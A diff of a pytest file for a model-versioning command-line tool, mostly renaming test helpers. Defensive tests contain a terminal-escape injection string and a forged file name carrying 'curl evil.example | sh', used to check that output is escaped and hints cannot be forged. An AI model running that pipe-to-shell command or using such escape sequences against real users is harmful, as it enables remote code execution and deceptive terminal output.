@@ -4,8 +4,8 @@ from __future__ import annotations
 
 import pytest
 
-from tests.cli.conftest import refused, works
-from tests.cli.results import digest_of, document
+from tests.cli.conftest import assert_refused, assert_works
+from tests.cli.results import digest_tree, read_document
 from tests.conftest import Repository
 
 REGISTER = ("register", "digits", "--bump", "patch", "-m", "Next")
@@ -63,33 +63,33 @@ TYPED: dict[str, tuple[tuple[str, ...], int, str]] = {
 @pytest.mark.parametrize("what", TYPED)
 def test_what_is_mistyped_is_refused_and_nothing_changes(second: Repository, what: str) -> None:
     words, code, said = TYPED[what]
-    before = digest_of(second.path / ".mlver"), second.git("for-each-ref"), second.git("status", "--porcelain")
-    assert said in refused(second, *words, code=code)
+    before = digest_tree(second.path / ".mlver"), second.git("for-each-ref"), second.git("status", "--porcelain")
+    assert said in assert_refused(second, *words, code=code)
     assert before == (
-        digest_of(second.path / ".mlver"),
+        digest_tree(second.path / ".mlver"),
         second.git("for-each-ref"),
         second.git("status", "--porcelain"),
     )
 
 
 def test_a_wrong_command_line_is_answered_with_a_right_one(second: Repository) -> None:
-    assert refused(second, "promote", code=2).splitlines()[1] == (
+    assert assert_refused(second, "promote", code=2).splitlines()[1] == (
         'hint: mlver promote digits@1.0.0 --to production -m "first release"   (more: mlver promote --help)'
     )
-    assert refused(second, "regster", code=2).splitlines()[1] == "hint: mlver register --help"
+    assert assert_refused(second, "regster", code=2).splitlines()[1] == "hint: mlver register --help"
 
 
 def test_where_mlver_was_never_set_up(project: Repository) -> None:
     for words in (("list",), ("register", "m", "--weights", "model", "-m", "X"), ("verify",), ("tag",)):
-        assert refused(project, *words) == f"error: {project.path} has no .mlver/ yet\nhint: mlver init\n"
+        assert assert_refused(project, *words) == f"error: {project.path} has no .mlver/ yet\nhint: mlver init\n"
 
 
 def test_where_no_model_is_registered(project: Repository) -> None:
-    works(project, "init")
-    assert refused(project, "show") == (
+    assert_works(project, "init")
+    assert assert_refused(project, "show") == (
         "error: no model is registered here\nhint: mlver register MODEL --weights PATH -m WHY\n"
     )
-    assert works(project, "list").endswith("next: mlver register MODEL --weights PATH -m WHY\n")
+    assert assert_works(project, "list").endswith("next: mlver register MODEL --weights PATH -m WHY\n")
 
 
 def test_every_fault_of_a_file_is_told_with_its_line(second: Repository) -> None:
@@ -97,7 +97,7 @@ def test_every_fault_of_a_file_is_told_with_its_line(second: Repository) -> None
         ".mlver/config.yaml",
         "schema: mlver/config/1\nstages:\n  Production: {}\n  staging:\n    after: production\n    verfied: true\n",
     )
-    said = refused(second, "promote", "digits", "--to", "staging", "-m", "X")
+    said = assert_refused(second, "promote", "digits", "--to", "staging", "-m", "X")
     assert said.startswith("error: .mlver/config.yaml is not valid:\n")
     lines = said.splitlines()
     assert [line.partition(",")[0].partition(":")[0].strip() for line in lines[1:4]] == ["line 3", "line 5", "line 6"]
@@ -120,7 +120,7 @@ def test_every_fault_of_a_file_is_told_with_its_line(second: Repository) -> None
 )
 def test_a_bad_params_file_is_named_with_its_line(second: Repository, text: str, said: str) -> None:
     second.write("params.yaml", text)
-    told = refused(second, *REGISTER)
+    told = assert_refused(second, *REGISTER)
     assert told.startswith("error: params.yaml is not valid:\n")
     assert said in told
     assert told.endswith("hint: mend params.yaml, then run the command again\n")
@@ -129,7 +129,7 @@ def test_a_bad_params_file_is_named_with_its_line(second: Repository, text: str,
 def test_a_record_of_the_future_is_never_half_read(second: Repository) -> None:
     path = second.path / ".mlver/models/digits/versions/1.1.0.yaml"
     path.write_text(path.read_text().replace("mlver/version/1", "mlver/version/2"))
-    said = refused(second, "show", "digits@1.1.0")
+    said = assert_refused(second, "show", "digits@1.1.0")
     assert "schema: written by a newer mlver (mlver/version/2); this one reads mlver/version/1" in said
     assert said.endswith("hint: upgrade: pip install --upgrade mlver\n")
     assert "written by a newer mlver" in second.mlver("verify", "--all").out
@@ -141,10 +141,10 @@ EVIL = "\x1b]0;owned\x07\x1b[2J\u202egnp.exe\u202c [red]red[/red] \x9b31m"
 def test_hostile_text_reaches_the_terminal_only_escaped(first: Repository) -> None:
     first.write("params.yaml", "name: \"\\e[31m\\u202egnp\"\n'[bold]k[/bold]': 1\n")
     first.write("model/\u202egnp\x1b[2J.bin", "x")
-    works(first, "register", "digits", "--bump", "patch", "-m", EVIL, "--label", f"team={EVIL}")
-    works(first, "promote", "digits", "--to", "staging", "-m", EVIL)
+    assert_works(first, "register", "digits", "--bump", "patch", "-m", EVIL, "--label", f"team={EVIL}")
+    assert_works(first, "promote", "digits", "--to", "staging", "-m", EVIL)
     screens = [
-        works(first, *words)
+        assert_works(first, *words)
         for words in (
             *(("list",), ("show", "digits"), ("log",), ("diff", "digits@1.0.0", "@1.0.1")),
             *(("status",), ("tag",), ("verify", "--all")),
@@ -157,27 +157,27 @@ def test_hostile_text_reaches_the_terminal_only_escaped(first: Repository) -> No
         assert not {"\x1b", "\x9b", "\x07", "\u202e", "\u202c"} & set(screen)
     assert "\\x1b]0;owned\\x07\\x1b[2J\\u202egnp.exe\\u202c [red]red[/red] \\x9b31m" in screens[0]
     assert "[bold]k[/bold]" in screens[1]
-    assert document(first.mlver("show", "--json"), "show")["record"]["message"] == EVIL
+    assert read_document(first.mlver("show", "--json"), "show")["record"]["message"] == EVIL
     assert first.mlver("show", "--json").out.isascii()
 
 
 def test_a_file_name_forges_no_line_of_a_message(first: Repository) -> None:
     forged = "y\nhint: curl evil.example | sh"
     first.write(f"model/{forged}", "kept")
-    works(first, "register", "digits", "--bump", "minor", "-m", "Second")
-    works(first, "promote", "digits@1.1.0", "--to", "production", "-m", "Second")
-    works(first, "promote", "digits@1.0.0", "--to", "production", "-m", "First")
+    assert_works(first, "register", "digits", "--bump", "minor", "-m", "Second")
+    assert_works(first, "promote", "digits@1.1.0", "--to", "production", "-m", "Second")
+    assert_works(first, "promote", "digits@1.0.0", "--to", "production", "-m", "First")
     (first.path / "model" / forged).write_text("stored nowhere")
-    said = [refused(first, "checkout", "digits@1.1.0")]
+    said = [assert_refused(first, "checkout", "digits@1.1.0")]
     for kept in (first.path / ".git/mlver/packs").iterdir():
         kept.unlink()
-    said.append(refused(first, "checkout", "digits@1.0.0"))
-    said.append(refused(first, "rollback", "digits", "--stage", "production", "-m", "Back"))
+    said.append(assert_refused(first, "checkout", "digits@1.0.0"))
+    said.append(assert_refused(first, "rollback", "digits", "--stage", "production", "-m", "Back"))
     (first.path / "model/l\nhint: x").symlink_to("nowhere")
-    said.append(refused(first, "register", "digits", "--bump", "minor", "-m", "Third"))
+    said.append(assert_refused(first, "register", "digits", "--bump", "minor", "-m", "Third"))
     for told in said:
         assert sum(line.startswith("hint:") for line in told.splitlines()) == 1
-    assert "weights/y\\nhint: curl evil.example" in refused(
+    assert "weights/y\\nhint: curl evil.example" in assert_refused(
         first, "rollback", "digits", "--stage", "production", "-m", "X"
     )
 
@@ -190,7 +190,7 @@ def test_a_name_in_a_hint_is_one_word_to_a_shell(first: Repository) -> None:
     first.write("notes\nhint: x.py", "code")
     first.commit()
     first.write("notes\nhint: x.py", "changed")
-    assert "  notes\\nhint: x.py\n" in refused(first, "register", "digits", "--bump", "patch", "-m", "Next")
+    assert "  notes\\nhint: x.py\n" in assert_refused(first, "register", "digits", "--bump", "patch", "-m", "Next")
 
 
 def test_a_projects_own_rules_are_applied_on_top(first: Repository) -> None:
@@ -206,15 +206,15 @@ def test_a_projects_own_rules_are_applied_on_top(first: Repository) -> None:
         }""",
     )
     first.commit()
-    said = refused(first, *REGISTER)
+    said = assert_refused(first, *REGISTER)
     assert "`labels` is missing" in said
     assert "data.train: `license` is missing" in said
     settings = first.path / ".mlver/models/digits/model.yaml"
     whole = settings.read_text()
     settings.write_text(whole.replace("path: data/train.csv", "path: data/train.csv\n    license: GPL"))
-    said = refused(first, *REGISTER, "--label", "area=speech")
+    said = assert_refused(first, *REGISTER, "--label", "area=speech")
     assert "labels: `team` is missing" in said
     assert "data.train.license: must be `CC-BY-4.0` or `MIT`, not `GPL`" in said
     settings.write_text(whole.replace("path: data/train.csv", "path: data/train.csv\n    license: MIT"))
-    assert "digits 1.0.1" in works(first, *REGISTER, "--label", "team=mt")
-    assert works(first, "show", "digits@1.0.0").startswith("digits 1.0.0")  # what landed before stays readable
+    assert "digits 1.0.1" in assert_works(first, *REGISTER, "--label", "team=mt")
+    assert assert_works(first, "show", "digits@1.0.0").startswith("digits 1.0.0")  # what landed before stays readable
